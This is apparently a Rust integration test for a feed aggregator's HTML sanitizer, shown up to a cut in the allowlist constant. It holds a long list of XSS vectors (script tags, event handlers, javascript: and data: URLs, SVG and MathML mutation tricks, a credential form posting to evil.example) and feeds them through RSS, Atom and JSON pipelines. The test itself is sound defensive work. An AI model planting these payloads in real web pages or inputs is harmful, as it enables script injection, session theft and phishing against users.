//! Hostile markup end to end: well over a hundred XSS vectors placed in
//! every field of every input format that can carry HTML or text, run through
//! the real fetch → parse → normalize → store → publish pipeline, and checked
//! in all three output formats: each document is well-formed, every HTML
//! field holds only allowlisted elements, no event handler or style, and
//! only http/https/mailto URLs, titles stay text, and feed-rs reads the
//! output back.
#![allow(clippy::unwrap_used, missing_docs)]

mod common;

use std::collections::{BTreeMap, HashSet};
use tributary::model::PollOutcome;

use common::*;
use quick_xml::escape::{escape, resolve_predefined_entity};
use quick_xml::events::{BytesStart, Event};
use quick_xml::{Reader, XmlVersion};
use serde_json::{Value, json};
use tributary::publish::Format;

/// The attack strings. Each is used as-is in every position (the XHTML
/// position takes the well-formed subset, see [`xhtml_ok`]).
const VECTORS: &[&str] = &[
    // --- <script> in every shape ---------------------------------------
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=\"https://evil.example/x.js\"></script>",
    "<SCRIPT SRC=http://evil.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<script>alert(1)</script",
    "<script type=\"text/javascript\">alert(1)</script>",
    "<script/xss src=\"https://evil.example/x.js\"></script>",
    "<script><![CDATA[alert(1)]]></script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p>before</p><script>document.write('<img src=x onerror=alert(1)>')</script><p>after</p>",
    "<script >alert(1)</script >",
    "<div title=\"<script>alert(1)</script>\">in an attribute</div>",
    "<a title='\"><script>alert(1)</script>'>x</a>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<xss onafterscriptexecute=alert(1)><script>1</script>",
    "<html><head><script>alert(1)</script></head><body onload=alert(1)>x</body></html>",
    // --- event handlers ------------------------------------------------
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\">",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img src=x oNeRrOr=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<img src=\"https://ok.example/a.png\" onload=\"alert(1)\">",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg onload=\"alert(1)\"/>",
    "<div onclick=\"alert(1)\">click</div>",
    "<div onmouseover=\"alert(1)\">hover</div>",
    "<span ONMOUSEOVER=\"alert(1)\">x</span>",
    "<p onmouseenter=alert(1)>x</p>",
    "<input onfocus=alert(1) autofocus>",
    "<a href=\"https://ok.example/\" onfocus=\"alert(1)\" autofocus=\"autofocus\">x</a>",
    "<div style=\"animation-name:x\" onanimationstart=\"alert(1)\">x</div>",
    "<details open ontoggle=alert(1)>x</details>",
    "<details ontoggle=\"alert(1)\" open=\"open\"><summary>s</summary>x</details>",
    "<video><source onerror=\"alert(1)\"/></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>x</textarea>",
    "<keygen autofocus onfocus=alert(1)>",
    "<iframe onload=alert(1)></iframe>",
    "<table onpointerover=\"alert(1)\"><tr><td>x</td></tr></table>",
    "<div onwheel=alert(1) onkeydown=alert(2) oncopy=alert(3)>x</div>",
    "<b onclick=alert(1)//>x</b>",
    "<div \"onclick=alert(1)\">x</div>",
    "<img src=x onerror&#x3D;alert(1)>",
    "<a href=\"https://ok.example/\" onclick=\"alert(1)\">x</a>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<b>&#x338; onmouseover=alert(1) x</b>",
    "<b>\u{338} onmouseover=alert(1) x</b>",
    "<a href=\"https://ok.example/\"\u{338} onclick=alert(1)>x</a>",
    "<img src=\"https://ok.example/a.png\" alt=\"&quot; onerror=&quot;alert(1)\"/>",
    // --- javascript:, vbscript:, data: URLs ------------------------------
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<a href=\"&#x6a;avascript&#x3a;alert(1)\">x</a>",
    "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">x</a>",
    "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
    "<a href=\"jav&#x0D;ascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"\n\t  javascript:alert(1)\">x</a>",
    "<a href=\"  JAVASCRIPT:alert(1)\">x</a>",
    "<a href=\"&#14; javascript:alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"javascript&#58;alert(1)\">x</a>",
    "<a href=\"jAvAsCrIpT&colon;alert&lpar;1&rpar;\">x</a>",
    "<a href=\"java&NewLine;script:alert(1)\">x</a>",
    "<a href=\"java&Tab;script:alert(1)\">x</a>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=\"javascript://%0Aalert(1)\">x</a>",
    "<a/href=\"javascript:alert(1)\">x</a>",
    "<a href=\"javascript:alert(1)\" href=\"https://ok.example/\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"VBScript:msgbox(1)\">x</a>",
    "<a href=\"livescript:alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;\">x</a>",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\"/>",
    "<img src=\"javascript:alert(1)\"/>",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<area href=\"javascript:alert(1)\"/>",
    "<map name=\"m\"><area shape=\"rect\" coords=\"0,0,1,1\" href=\"javascript:alert(1)\"/></map>",
    "<blockquote cite=\"javascript:alert(1)\">q</blockquote>",
    "<q cite=\"javascript:alert(1)\">q</q>",
    "<img src=\"x\" srcset=\"javascript:alert(1) 1x\"/>",
    "<a href=\"mailto:x@ok.example?body=&lt;script&gt;alert(1)&lt;/script&gt;\">m</a>",
    "<a href=\"https://ok.example/#&lt;script&gt;alert(1)&lt;/script&gt;\">x</a>",
    // --- embedding elements --------------------------------------------
    "<iframe src=\"https://evil.example/\"></iframe>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe srcdoc=\"&lt;img src=x onerror=alert(1)&gt;\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<object type=\"text/html\" data=\"https://evil.example/\"></object>",
    "<object><param name=\"src\" value=\"javascript:alert(1)\"/></object>",
    "<embed src=\"javascript:alert(1)\"/>",
    "<embed src=\"https://evil.example/x.swf\" type=\"application/x-shockwave-flash\"/>",
    "<applet code=\"X.class\"></applet>",
    "<frameset><frame src=\"javascript:alert(1)\"/></frameset>",
    "<portal src=\"https://evil.example/\"></portal>",
    // --- SVG and MathML ------------------------------------------------
    "<svg><script>alert(1)</script></svg>",
    "<svg><script xlink:href=\"data:,alert(1)\"></script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"0\" y=\"20\">x</text></a></svg>",
    "<svg><animate attributeName=\"href\" values=\"javascript:alert(1)\"/><a><text>x</text></a></svg>",
    "<svg><a><animate attributeName=\"href\" values=\"javascript:alert(1)\"/><text x=\"20\" y=\"20\">x</text></a></svg>",
    "<svg><set attributeName=\"onmouseover\" to=\"alert(1)\"/></svg>",
    "<svg><a><set attributeName=\"href\" to=\"javascript:alert(1)\"/><text>x</text></a></svg>",
    "<svg><foreignObject><iframe src=\"javascript:alert(1)\"></iframe></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='alert(1)'/&gt;&lt;/svg&gt;#x\"/></svg>",
    "<svg><style>@import url(https://evil.example/x.css);</style></svg>",
    "<svg><image href=\"x\" onerror=\"alert(1)\"/></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",
    "<svg><iframe><a title=\"</iframe><img src onerror=alert(1)>\">test",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
    "<math><mi xlink:href=\"data:x,&lt;script&gt;alert(1)&lt;/script&gt;\">x</mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    // --- style, base, meta, form, link ---------------------------------
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(\"javascript:alert(1)\")}</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=\"background-image:url(&#1;javascript:alert(1))\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<p style=\"-moz-binding:url(https://evil.example/x.xml#xss)\">x</p>",
    "<base href=\"javascript:alert(1)//\"/>",
    "<base href=\"https://evil.example/\"/>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\"/>",
    "<meta http-equiv=\"refresh\" content=\"0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"/>",
    "<meta charset=\"utf-7\"/>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<form action=\"javascript:alert(1)\"><input type=\"submit\"/></form>",
    "<form action=\"https://evil.example/steal\"><input name=\"password\" type=\"password\"/></form>",
    "<form action=\"https://ok.example/\"><button formaction=\"javascript:alert(1)\">x</button></form>",
    "<form id=\"f\"></form><button form=\"f\" formaction=\"javascript:alert(1)\">x</button>",
    "<isindex action=\"javascript:alert(1)\" type=\"image\">",
    "<link rel=\"import\" href=\"https://evil.example/x.html\"/>",
    "<link rel=\"stylesheet\" href=\"javascript:alert(1)\"/>",
    "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
    // --- CDATA ends, comments, raw-text elements -----------------------
    "]]><script>alert(1)</script>",
    "<p>]]></p><script>alert(1)</script>",
    "<p title=\"]]&gt;&lt;script&gt;alert(1)&lt;/script&gt;\">cdata</p>",
    "<!--><script>alert(1)</script>-->",
    "<!---><script>alert(1)</script>-->",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<!-- --!><script>alert(1)</script> -->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?><p>pi</p>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<plaintext><script>alert(1)</script>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<noframes><img src=x onerror=alert(1)></noframes>",
    "<select><option><img src=x onerror=alert(1)></option></select>",
    // --- escaped text that must stay text ------------------------------
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u{FF1C}script\u{FF1E}alert(1)\u{FF1C}/script\u{FF1E}",
    // --- link hygiene --------------------------------------------------
    "<a href=\"https://ok.example/\" target=\"_blank\">x</a>",
    "<a href=\"https://ok.example/\" rel=\"opener\">x</a>",
    "<a href=\"https://ok.example/\" ping=\"https://track.example/\">x</a>",
];

/// Where a vector is placed in the input.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Position {
    RssTitle,
    RssDescription,
    RssContentEncoded,
    AtomTitleHtml,
    AtomSummaryHtml,
    AtomContentHtml,
    AtomContentXhtml,
    JsonTitle,
    JsonSummary,
    JsonContentHtml,
}

impl Position {
    const ALL: [Position; 10] = [
        Position::RssTitle,
        Position::RssDescription,
        Position::RssContentEncoded,
        Position::AtomTitleHtml,
        Position::AtomSummaryHtml,
        Position::AtomContentHtml,
        Position::AtomContentXhtml,
        Position::JsonTitle,
        Position::JsonSummary,
        Position::JsonContentHtml,
    ];

    fn slug(self) -> &'static str {
        match self {
            Position::RssTitle => "rss-title",
            Position::RssDescription => "rss-description",
            Position::RssContentEncoded => "rss-content-encoded",
            Position::AtomTitleHtml => "atom-title-html",
            Position::AtomSummaryHtml => "atom-summary-html",
            Position::AtomContentHtml => "atom-content-html",
            Position::AtomContentXhtml => "atom-content-xhtml",
            Position::JsonTitle => "json-title",
            Position::JsonSummary => "json-summary",
            Position::JsonContentHtml => "json-content-html",
        }
    }

    fn file(self) -> String {
        let ext = match self {
            Position::RssTitle | Position::RssDescription | Position::RssContentEncoded => "rss",
            Position::JsonTitle | Position::JsonSummary | Position::JsonContentHtml => "json",
            _ => "atom",
        };
        format!("{}.{ext}", self.slug())
    }

    fn feed(self, items: &[usize]) -> String {
        match self {
            Position::RssTitle | Position::RssDescription | Position::RssContentEncoded => rss_feed(self, items),
            Position::JsonTitle | Position::JsonSummary | Position::JsonContentHtml => json_feed(self, items),
            _ => atom_feed(self, items),
        }
    }
}

const ORIGIN: &str = "https://hostile.example";

fn item_link(pos: Position, i: usize) -> String {
    format!("{ORIGIN}/{}/{i}", pos.slug())
}

fn plain_title(pos: Position, i: usize) -> String {
    format!("Probe {i} in {}", pos.slug())
}

fn plain_body(pos: Position, i: usize) -> String {
    format!("<p>Body of probe {i} in {}</p>", pos.slug())
}

/// Text safe inside a CDATA section: every `]]>` split across two sections.
fn cdata(s: &str) -> String {
    format!("<![CDATA[{}]]>", s.replace("]]>", "]]]]><![CDATA[>"))
}

fn rss_feed(pos: Position, items: &[usize]) -> String {
    let mut s = format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<rss version=\"2.0\" \
         xmlns:content=\"http://purl.org/rss/1.0/modules/content/\"><channel><title>{0}</title>\
         <link>{ORIGIN}/</link><description>{0}</description>\n",
        pos.slug()
    );
    for &i in items {
        let v = VECTORS[i];
        let (title, body) = match pos {
            Position::RssTitle => (escape(v).into_owned(), escape(plain_body(pos, i)).into_owned()),
            Position::RssDescription => (plain_title(pos, i), escape(v).into_owned()),
            _ => (plain_title(pos, i), String::new()),
        };
        s.push_str(&format!(
            "<item><guid isPermaLink=\"false\">{}-{i}</guid><title>{title}</title><link>{}</link>",
            pos.slug(),
            item_link(pos, i)
        ));
        if pos == Position::RssContentEncoded {
            s.push_str(&format!("<content:encoded>{}</content:encoded>", cdata(v)));
        } else {
            s.push_str(&format!("<description>{body}</description>"));
        }
        s.push_str("</item>\n");
    }
    s.push_str("</channel></rss>\n");
    s
}

const XHTML_DIV: &str = "<div xmlns=\"http://www.w3.org/1999/xhtml\" xmlns:xlink=\"http://www.w3.org/1999/xlink\">";

fn atom_feed(pos: Position, items: &[usize]) -> String {
    let mut s = format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<feed xmlns=\"http://www.w3.org/2005/Atom\">\
         <title>{0}</title><id>urn:hostile:{0}</id><updated>2026-01-01T00:00:00Z</updated>\
         <link rel=\"alternate\" href=\"{ORIGIN}/\"/>\n",
        pos.slug()
    );
    for &i in items {
        let v = VECTORS[i];
        s.push_str(&format!(
            "<entry><id>urn:hostile:{}:{i}</id><link rel=\"alternate\" href=\"{}\"/>\
             <updated>2026-01-01T00:00:00Z</updated>",
            pos.slug(),
            item_link(pos, i)
        ));
        let title = if pos == Position::AtomTitleHtml {
            escape(v).into_owned()
        } else {
            escape(plain_title(pos, i)).into_owned()
        };
        s.push_str(&format!("<title type=\"html\">{title}</title>"));
        match pos {
            Position::AtomTitleHtml => s.push_str(&format!(
                "<content type=\"html\">{}</content>",
                escape(plain_body(pos, i))
            )),
            Position::AtomSummaryHtml => s.push_str(&format!("<summary type=\"html\">{}</summary>", escape(v))),
            Position::AtomContentHtml => s.push_str(&format!("<content type=\"html\">{}</content>", escape(v))),
            _ => s.push_str(&format!("<content type=\"xhtml\">{XHTML_DIV}{v}</div></content>")),
        }
        s.push_str("</entry>\n");
    }
    s.push_str("</feed>\n");
    s
}

fn json_feed(pos: Position, items: &[usize]) -> String {
    let items: Vec<Value> = items
        .iter()
        .map(|&i| {
            let v = VECTORS[i];
            let mut item = json!({
                "id": format!("{}-{i}", pos.slug()),
                "url": item_link(pos, i),
                "title": plain_title(pos, i),
                "content_html": plain_body(pos, i),
            });
            match pos {
                Position::JsonTitle => item["title"] = json!(v),
                Position::JsonSummary => item["summary"] = json!(v),
                _ => item["content_html"] = json!(v),
            }
            item
        })
        .collect();
    serde_json::to_string_pretty(&json!({
        "version": "https://jsonfeed.org/version/1.1",
        "title": pos.slug(),
        "home_page_url": format!("{ORIGIN}/"),
        "items": items,
    }))
    .unwrap()
}

/// Whether a vector is well-formed XML inside the XHTML `<div>`: quoted
/// attributes, matched end tags, only predefined or numeric references, no
/// characters XML forbids. Only those can go into `type="xhtml"` content.
fn xhtml_ok(v: &str) -> bool {
    if v.chars().any(|c| c < ' ' && !matches!(c, '\t' | '\n' | '\r')) || v.contains("<!DOCTYPE") {
        return false;
    }
    let doc = format!("{XHTML_DIV}{v}</div>");
    let mut reader = Reader::from_str(&doc);
    reader.config_mut().check_comments = true;
    let mut depth = 0usize;
    loop {
        let event = match reader.read_event() {
            Ok(e) => e,
            Err(_) => return false,
        };
        match event {
            Event::Start(e) | Event::Empty(e) if !attributes_ok(&e) => return false,
            Event::Start(_) => depth += 1,
            Event::End(_) => {
                if depth == 0 {
                    return false;
                }
                depth -= 1;
            }
            Event::GeneralRef(r) => {
                let known = if r.is_char_ref() {
                    matches!(r.resolve_char_ref(), Ok(Some(c)) if c >= ' ' || matches!(c, '\t' | '\n' | '\r'))
                } else {
                    resolve_predefined_entity(&r).is_some()
                };
                if !known {
                    return false;
                }
            }
            Event::DocType(_) | Event::PI(_) | Event::Decl(_) => return false,
            Event::Eof => return depth == 0,
            _ => {}
        }
    }
}

fn attributes_ok(e: &BytesStart<'_>) -> bool {
    e.attributes()
        .all(|a| a.is_ok_and(|a| a.normalized_value(XmlVersion::Implicit1_0).is_ok()))
}

// ---------------------------------------------------------------------------
// Reading the outputs
// ---------------------------------------------------------------------------

/// One entry of an output document, as a reader would see it.
#[derive(Debug, Default, Clone)]
struct OutEntry {
    link: Option<String>,
    title: Option<String>,
    /// `(field, HTML)` after removing the container's escaping.
    html: Vec<(String, String)>,
    /// `(field, plain text)`.
    text: Vec<(String, String)>,
}

/// Elements whose content is text only: HTML in them must be escaped.
const TEXT_ELEMENTS: &[&str] = &[
    "title",
    "subtitle",
    "summary",
    "content",
    "description",
    "content:encoded",
    "name",
];

/// HTML element names no Atom or RSS document of ours contains.
const HTML_ONLY_ELEMENTS: &[&str] = &[
    "a",
    "applet",
    "audio",
    "b",
    "base",
    "blockquote",
    "body",
    "br",
    "button",
    "details",
    "div",
    "embed",
    "form",
    "frame",
    "frameset",
    "head",
    "html",
    "i",
    "iframe",
    "img",
    "input",
    "math",
    "meta",
    "noscript",
    "object",
    "p",
    "script",
    "select",
    "span",
    "style",
    "svg",
    "table",
    "template",
    "textarea",
    "video",
    "xmp",
];

/// Reads an Atom or RSS document to the end with a strict XML reader and
/// returns its entries (`entry_tag` is `entry` or `item`).
fn read_xml_output(body: &str, entry_tag: &str) -> Result<Vec<OutEntry>, String> {
    let mut reader = Reader::from_str(body);
    reader.config_mut().check_comments = true;
    let mut stack: Vec<String> = Vec::new();
    let mut entries = Vec::new();
    let mut current: Option<OutEntry> = None;
    // The text element being read: its name, depth, `type` attribute and text.
    let mut text: Option<(String, usize, Option<String>, String)> = None;
    loop {
        let pos = reader.buffer_position();
        let event = reader
            .read_event()
            .map_err(|e| format!("not well-formed at byte {pos}: {e}"))?;
        match event {
            Event::Start(ref e) | Event::Empty(ref e) => {
                let name = e.name().as_ref().to_string();
                let local = name.rsplit(':').next().unwrap_or(&name).to_ascii_lowercase();
                if HTML_ONLY_ELEMENTS.contains(&local.as_str()) {
                    return Err(format!("HTML element <{name}> in the XML structure at byte {pos}"));
                }
                if let Some((outer, ..)) = &text {
                    return Err(format!("element <{name}> inside <{outer}> at byte {pos}"));
                }
                let mut attrs = BTreeMap::new();
                for a in e.attributes() {
                    let a = a.map_err(|err| format!("bad attribute at byte {pos}: {err}"))?;
                    let value = a
                        .normalized_value(XmlVersion::Implicit1_0)
                        .map_err(|err| format!("bad attribute value at byte {pos}: {err}"))?;
                    attrs.insert(a.key.as_ref().to_string(), value.into_owned());
                }
                let parent_is_entry = stack.last().is_some_and(|p| p == entry_tag);
                let is_empty = matches!(event, Event::Empty(_));
                if name == entry_tag {
                    current = Some(OutEntry::default());
                } else if parent_is_entry && name == "link" && entry_tag == "entry" {
                    if attrs.get("rel").is_none_or(|r| r == "alternate")
                        && let Some(entry) = current.as_mut()
                    {
                        entry.link = attrs.get("href").cloned();
                    }
                } else if TEXT_ELEMENTS.contains(&name.as_str()) || (parent_is_entry && name == "link") {
                    let field = if parent_is_entry {
                        name.clone()
                    } else {
                        format!("nested {name}")
                    };
                    if is_empty {
                        store_field(current.as_mut(), &field, attrs.get("type").cloned(), String::new());
                    } else {
                        text = Some((field, stack.len() + 1, attrs.get("type").cloned(), String::new()));
                    }
                }
                if !is_empty {
                    stack.push(name);
                }
            }
            Event::End(e) => {
                let name = e.name().as_ref().to_string();
                if stack.pop().as_deref() != Some(name.as_str()) {
                    return Err(format!("mismatched </{name}> at byte {pos}"));
                }
                if let Some((field, depth, kind, value)) = text.take() {
                    if depth == stack.len() + 1 {
                        store_field(current.as_mut(), &field, kind, value);
                    } else {
                        text = Some((field, depth, kind, value));
                    }
                }
                if name == entry_tag {
                    entries.push(current.take().ok_or("entry end without start")?);
                }
            }
            Event::Text(t) => {
                if let Some((.., value)) = text.as_mut() {
                    value.push_str(&t.xml10_content());
                }
            }
            Event::CData(c) => {
                if let Some((.., value)) = text.as_mut() {
                    value.push_str(&c.xml10_content());
                }
            }
            Event::GeneralRef(r) => {
                let resolved = if r.is_char_ref() {
                    r.resolve_char_ref()
                        .map_err(|e| format!("bad character reference at byte {pos}: {e}"))?
                        .map(String::from)
                } else {
                    resolve_predefined_entity(&r).map(str::to_string)
                };
                let resolved = resolved.ok_or_else(|| format!("undefined entity &{}; at byte {pos}", &*r))?;
                if let Some((.., value)) = text.as_mut() {
                    value.push_str(&resolved);
                }
            }
            Event::DocType(_) => return Err("a DOCTYPE in the output".into()),
            Event::Eof => break,
            _ => {}
        }
    }
    if !stack.is_empty() {
        return Err(format!("unclosed elements at the end: {stack:?}"));
    }
    Ok(entries)
}

fn store_field(entry: Option<&mut OutEntry>, field: &str, kind: Option<String>, value: String) {
    let Some(entry) = entry else { return };
    match field {
        "title" => entry.title = Some(value),
        "link" => entry.link = Some(value),
        "description" | "content:encoded" => entry.html.push((field.into(), value)),
        "content" | "summary" => match kind.as_deref() {
            Some("html") => entry.html.push((field.into(), value)),
            _ => entry.text.push((format!("{field} type={kind:?}"), value)),
        },
        _ => {}
    }
}

fn read_json_output(body: &str) -> Result<Vec<OutEntry>, String> {
    let v: Value = serde_json::from_str(body).map_err(|e| format!("invalid JSON: {e}"))?;
    let items = v["items"].as_array().ok_or("no items array")?;
    Ok(items
        .iter()
        .map(|item| {
            let s = |k: &str| item[k].as_str().map(str::to_string);
            let mut e = OutEntry {
                link: s("url"),
                title: s("title"),
                ..OutEntry::default()
            };
            if let Some(html) = s("content_html") {
                e.html.push(("content_html".into(), html));
            }
            if let Some(text) = s("summary") {
                e.text.push(("summary".into(), text));
            }
            if let Some(text) = s("content_text") {
                e.text.push(("content_text".into(), text));
            }
            e
        })
        .collect())
}

/// Every `<title…>…</title>` of the raw XML holds text only: no `<` at all.
fn raw_titles_are_text(body: &str) -> Result<usize, String> {
    let mut count = 0;
    let mut rest = body;
    while let Some(at) = rest.find("<title") {
        let after = &rest[at + 6..];
        if !after.starts_with(['>', ' ']) {
            rest = after;
            continue;
        }
        let open_end = after.find('>').ok_or("unterminated <title")? + 1;
        let inner = &after[open_end..];
        let close = inner.find("</title>").ok_or("<title> without </title>")?;
        if let Some(lt) = inner[..close].find('<') {
            return Err(format!("markup inside <title>: {:?}", &inner[lt..close.min(lt + 60)]));
        }
        count += 1;
        rest = &inner[close..];
    }
    Ok(count)
}

// ---------------------------------------------------------------------------
// The HTML checker
// ---------------------------------------------------------------------------

/// A start tag: lower-case name and attributes with decoded values.
#[derive(Debug)]
struct Tag {
    name: String,
    attrs: Vec<(String, String)>,
}

fn is_html_space(b: u8) -> bool {
    matches!(b, b' ' | b'\t' | b'\n' | b'\r' | 0x0c)
}

/// Elements whose content a browser does not parse as markup.
const RAW_TEXT: &[&str] = &[
    "script", "style", "xmp", "iframe", "noembed", "noframes", "noscript", "textarea", "title",
];

/// Splits an HTML fragment the way a browser's tokenizer does into start
/// tags (name and attributes, values entity-decoded) and finds comments and
/// other markup declarations, which sanitized output must not contain.
fn scan_html(html: &str) -> (Vec<Tag>, Vec<String>) {
    let b = html.as_bytes();
    let mut tags = Vec::new();
    let mut odd = Vec::new();
    let mut i = 0;
    while let Some(off) = b[i..].iter().position(|&c| c == b'<') {
        let p = i + off;
        let rest = &html[p..];
        if rest.starts_with("<!--") {
            let end = if rest.starts_with("<!-->") {
                p + 5
            } else if rest.starts_with("<!--->") {
                p + 6
            } else {
                html[p + 4..].find("-->").map_or(b.len(), |e| p + 4 + e + 3)
            };
            odd.push(format!("comment {:?}", &html[p..end]));
            i = end;
            continue;
        }
        let end_tag = rest.starts_with("</");
        let name_start = p + if end_tag { 2 } else { 1 };
        let starts_name = b.get(name_start).is_some_and(u8::is_ascii_alphabetic);
        if rest.starts_with("<!") || rest.starts_with("<?") || (end_tag && !starts_name) {
            let end = html[p..].find('>').map_or(b.len(), |e| p + e + 1);
            if !rest.starts_with("</>") {
                odd.push(format!("markup declaration {:?}", &html[p..end]));
            }
            i = end;
            continue;
        }
        if !starts_name {
            i = p + 1;
            continue;
        }
        let mut j = name_start;
        while j < b.len() && !is_html_space(b[j]) && b[j] != b'/' && b[j] != b'>' {
            j += 1;
        }
        let name = html[name_start..j].to_ascii_lowercase();
        let mut attrs = Vec::new();
        loop {
            while j < b.len() && (is_html_space(b[j]) || b[j] == b'/') {
                j += 1;
            }
            if j >= b.len() {
                break;
            }
            if b[j] == b'>' {
                j += 1;
                break;
            }
            let a0 = j;
            j += 1;
            while j < b.len() && !is_html_space(b[j]) && !matches!(b[j], b'/' | b'>' | b'=') {
                j += 1;
            }
            let attr = html[a0..j].to_ascii_lowercase();
            while j < b.len() && is_html_space(b[j]) {
                j += 1;
            }
            let mut value = "";
            if b.get(j) == Some(&b'=') {
                j += 1;
                while j < b.len() && is_html_space(b[j]) {
                    j += 1;
                }
                match b.get(j) {
                    Some(&q) if q == b'"' || q == b'\'' => {
                        let s = j + 1;
                        let e = html[s..].find(char::from(q)).map_or(b.len(), |e| s + e);
                        value = &html[s..e];
                        j = (e + 1).min(b.len());
                    }
                    _ => {
                        let s = j;
                        while j < b.len() && !is_html_space(b[j]) && b[j] != b'>' {
                            j += 1;
                        }
                        value = &html[s..j];
                    }
                }
            }
            attrs.push((attr, htmlize::unescape_attribute(value).into_owned()));
        }
        i = j;
        if !end_tag {
            if RAW_TEXT.contains(&name.as_str()) {
                let close = format!("</{name}");
                i = html[i..].to_ascii_lowercase().find(&close).map_or(b.len(), |at| i + at);
            }
            tags.push(Tag { name, attrs });
        }
    }
    (tags, odd)
}

/// Elements that must never reach a reader.
const FORBIDDEN_ELEMENTS: &[&str] = &[
    "script",
    "iframe",
    "object",
    "embed",
    "svg",
    "math",
    "style",
    "base",
    "meta",
    "form",
    "link",
    "frame",
    "frameset",
    "applet",
    "template",
    "noscript",
    "xmp",
    "plaintext",
    "noembed",
    "noframes",
    "textarea",
    "title",
    "input",
    "button",
    "select",
    "option",
    "isindex",
    "keygen",
    "portal",
    "param",
    "html",
    "head",
    "body",
    "animate",
    "set",
    "use",
    "image",
    "foreignobject",
];

/// The documented allowlist: ammonia's default elements plus `tfoot`.
const ALLOWED_ELEMENTS: &[&str] = &[
    "a",
    "abbr",
    "acronym",
    "area",
    "article",
    "aside",
    "b",
    "bdi",
    "bdo",
    "blockquote",
    "br",
    "caption",
    "center",
    "cite",
    "code",
    "col",
    "colgroup",
    "data",
    "dd",
    "del",
    "details",
    "dfn",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "footer",
    "h1",
